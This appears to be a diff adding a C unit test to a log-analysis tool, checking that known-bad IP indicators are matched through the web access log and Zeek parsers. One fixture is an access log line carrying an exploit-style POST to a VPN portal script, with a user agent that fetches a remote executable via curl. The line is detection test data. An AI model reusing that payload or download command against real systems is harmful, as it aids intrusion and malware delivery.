@@ -5,7 +5,10 @@
  */
 #include "tt.h"
 
+#include "logsource/field_types.h"
+#include "trawl/arena.h"
 #include "trawl/ioc.h"
+#include "trawl/parse.h"
 
 typedef struct hits {
     int n;
@@ -294,6 +297,75 @@ TEST(ioc_match_no_allocation_per_event)
     for (int i = 0; i < 1000; i++)
         tr_ioc_scan(x, s, &ev, count_only, &n);
     CHECK_EQ(tr_alloc_count() - before, 0);
+    tr_ioc_scratch_free(s);
+    tr_ioc_index_free(x);
+}
+
+typedef struct det_ctx {
+    const tr_event *ev;
+    int n;
+    char rule[32];
+    tr_detection d;
+    tr_kv kv[1];
+} det_ctx;
+
+static int to_detection(void *ctx, const tr_ioc_match *m)
+{
+    det_ctx *c = ctx;
+    tr_ioc_detection(m, c->ev, &c->d, c->kv, c->rule);
+    c->n++;
+    return 0;
+}
+
+/* The real decoders + the typing table + the scan: a web access log line
+ * with an exploit payload, and a Zeek conn line to a C2 address. */
+TEST(ioc_match_through_parser_and_types)
+{
+    tr_ioc_index *x = index_of("66.42.98.220\n91.208.184.78\n", NULL);
+    CHECK(x);
+    tr_ioc_scratch *s;
+    CHECK(tr_ioc_scratch_new(x, &s) == TR_OK);
+    tr_arena *arena = tr_arena_new(0, 0);
+    tr_field fields[64];
+    tr_event ev;
+    tr_event_init(&ev, fields, 64, arena);
+    tr_parser *p;
+    CHECK(tr_parser_new(TR_FMT_COMBINED, NULL, &p) == TR_OK);
+    const char *line = "66.42.98.220 - - [20/Jan/2020:08:14:02 +0000] \"POST "
+                       "/vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 143 \"-\" "
+                       "\"curl http://91.208.184.78/2.exe\"";
+    ev.path = TR_STR("access.log");
+    CHECK(tr_parser_parse(p, tr_str_c(line), &ev) == TR_OK);
+    tr_field_types_apply(&ev);
+    det_ctx c = { .ev = &ev };
+    tr_ioc_scan(x, s, &ev, to_detection, &c);
+    CHECK_EQ(c.n, 2); /* c-ip (source) and the address in the user agent */
+    tr_parser_free(p);
+
+    CHECK(tr_parser_new(TR_FMT_ZEEK, NULL, &p) == TR_OK);
+    const char *hdr[] = { "#separator \\x09", "#path\tconn",
+                          "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto" };
+    for (size_t i = 0; i < 3; i++) {
+        tr_event_reset(&ev);
+        (void)tr_parser_parse(p, tr_str_c(hdr[i]), &ev);
+    }
+    tr_event_reset(&ev);
+    CHECK(tr_parser_parse(p, TR_STR("1579508042.0\tCx1\t10.1.2.3\t49152\t91.208.184.78\t443\ttcp"),
+                          &ev) == TR_OK);
+    tr_field_types_apply(&ev);
+    memset(&c, 0, sizeof(c));
+    c.ev = &ev;
+    tr_ioc_scan(x, s, &ev, to_detection, &c);
+    CHECK_EQ(c.n, 1);
+    CHECK_EQ(c.d.kind, TR_DET_IOC);
+    CHECK_SLICE(c.d.rule_id, "ioc:ipv4");
+    CHECK_SLICE(c.d.level, "high");
+    CHECK_SLICE(c.d.indicator.value, "91.208.184.78");
+    CHECK_SLICE(c.d.indicator.field, "id.resp_h");
+    CHECK_EQ(c.d.indicator.side, TR_SIDE_DST);
+    CHECK_SLICE(c.d.fields[0].value, "91.208.184.78");
+    tr_parser_free(p);
+    tr_arena_free(arena);
     tr_ioc_scratch_free(s);
     tr_ioc_index_free(x);
 }
